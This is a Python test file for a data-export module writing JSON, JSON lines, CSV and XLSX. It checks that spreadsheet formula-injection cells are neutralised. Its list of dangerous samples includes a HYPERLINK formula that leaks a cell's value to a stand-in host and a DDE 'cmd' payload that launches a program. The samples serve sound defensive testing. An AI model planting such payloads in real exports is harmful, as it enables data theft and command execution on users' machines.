"""Writing listings: JSON, JSON lines, CSV and XLSX carry the values, lists and mappings through."""

from __future__ import annotations

import csv
import json
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from kizashi.errors import InputError
from kizashi.files.export import FORMULA_PREFIXES, write_rows

ROWS = [
    {
        "id": "A",
        "title": '兆し, "quoted"\nsecond line',
        "keywords": ["ドローン", "radar"],
        "extra": {"担当": "技術部", "n": 1},
        "deadline": date(2026, 3, 31),
        "created_at": datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
        "trl": 4,
        "threat": None,
    },
    {
        "id": "B",
        "title": "=1+1",
        "keywords": [],
        "extra": {},
        "deadline": None,
        "created_at": None,
        "trl": None,
        "threat": "@SUM(A1)",
    },
]
COLUMNS = ["id", "title", "keywords", "extra", "deadline", "created_at", "trl", "threat"]


def test_json(tmp_path: Path) -> None:
    out = tmp_path / "x.json"
    write_rows(ROWS, COLUMNS, "json", out)
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data[0]["title"] == ROWS[0]["title"]
    assert data[0]["keywords"] == ["ドローン", "radar"]
    assert data[0]["extra"] == {"担当": "技術部", "n": 1}
    assert data[0]["deadline"] == "2026-03-31"
    assert datetime.fromisoformat(data[0]["created_at"]) == ROWS[0]["created_at"]
    assert data[1]["threat"] == "@SUM(A1)"
    assert data[1]["trl"] is None


def test_jsonl_only_the_given_columns(tmp_path: Path) -> None:
    out = tmp_path / "x.jsonl"
    write_rows(ROWS, ["id", "keywords"], "jsonl", out)
    lines = out.read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in lines] == [
        {"id": "A", "keywords": ["ドローン", "radar"]},
        {"id": "B", "keywords": []},
    ]


def test_csv_flattens_lists_and_mappings(tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    write_rows(ROWS, COLUMNS, "csv", out)
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["title"] == ROWS[0]["title"]
    assert rows[0]["keywords"] == "ドローン; radar"
    assert json.loads(rows[0]["extra"]) == {"担当": "技術部", "n": 1}
    assert rows[0]["deadline"] == "2026-03-31"
    assert rows[0]["trl"] == "4"
    assert rows[1]["title"] == "'=1+1" and rows[1]["threat"] == "'@SUM(A1)"  # neutralised: shown as text
    assert rows[1]["keywords"] == "" and rows[1]["deadline"] == "" and rows[1]["trl"] == ""


DANGEROUS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"y")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_neutralises_what_a_spreadsheet_would_run(text: str, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    write_rows([{"id": "A", "title": text}], ["id", "title"], "csv", out)
    with out.open(encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["title"] == "'" + text


def _csv_cells(text: str, raw_csv: bool, folder: Path) -> list[str]:
    out = folder / "x.csv"
    write_rows([{"title": text, "trl": -3}], ["title", "trl"], "csv", out, raw_csv=raw_csv)
    with out.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))[1]


# Any text, surrogates aside (they cannot be written as UTF-8), with the dangerous starts drawn often.
cell_texts = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"]), max_size=40),
    st.tuples(st.sampled_from(FORMULA_PREFIXES), st.text(st.characters(exclude_categories=["Cs"]), max_size=20)).map(
        "".join
    ),
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=cell_texts)
def test_a_csv_cell_is_neutralised_exactly_when_it_is_dangerous(text: str, tmp_path: Path) -> None:
    title, trl = _csv_cells(text, False, tmp_path)
    dangerous = text[:1] in ("=", "+", "-", "@", "\t", "\r")
    assert title == ("'" + text if dangerous else text)
    assert trl == "-3"  # a number is written as a number: only text can carry a formula


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=cell_texts)
def test_raw_csv_gives_the_text_back_as_it_was(text: str, tmp_path: Path) -> None:
    assert _csv_cells(text, True, tmp_path)[0] == text


def test_csv_to_stdout(capsys: pytest.CaptureFixture[str]) -> None:
    write_rows(ROWS[:1], ["id", "trl"], "csv", None)
    assert capsys.readouterr().out == "id,trl\r\nA,4\r\n"


def test_xlsx_keeps_text_that_looks_like_a_formula(tmp_path: Path) -> None:
    # A title starting with '=' must stay that text: never a formula that Excel would compute (or run).
    out = tmp_path / "x.xlsx"
    write_rows(ROWS, COLUMNS, "xlsx", out)
    sheet = load_workbook(out).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    assert header == COLUMNS
    second = {name: cell for name, cell in zip(header, sheet[3], strict=True)}
    assert second["title"].value == "=1+1"
    assert second["title"].data_type == "s"
    assert second["threat"].value == "@SUM(A1)"
    first = {name: cell.value for name, cell in zip(header, sheet[2], strict=True)}
    assert first["title"] == ROWS[0]["title"]
    assert first["keywords"] == "ドローン; radar"
    assert first["trl"] == 4
    assert first["deadline"] == "2026-03-31"


def test_xlsx_drops_control_characters_and_caps_long_text(tmp_path: Path) -> None:
    out = tmp_path / "x.xlsx"
    write_rows([{"id": "A", "title": "a\x00b\x1bc\td\ne", "long": "x" * 40_000}], ["id", "title", "long"], "xlsx", out)
    row = [cell.value for cell in load_workbook(out).worksheets[0][2]]
    assert row[1] == "abc\td\ne"
    assert len(row[2]) == 32767


def test_xlsx_needs_a_file() -> None:
    with pytest.raises(InputError) as caught:
        write_rows(ROWS, COLUMNS, "xlsx", None)
    assert caught.value.location.field == "out"


@pytest.mark.parametrize("fmt", ["table", "yaml", ""])
def test_unknown_format(fmt: str, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="unknown format"):
        write_rows(ROWS, COLUMNS, fmt, tmp_path / "x")
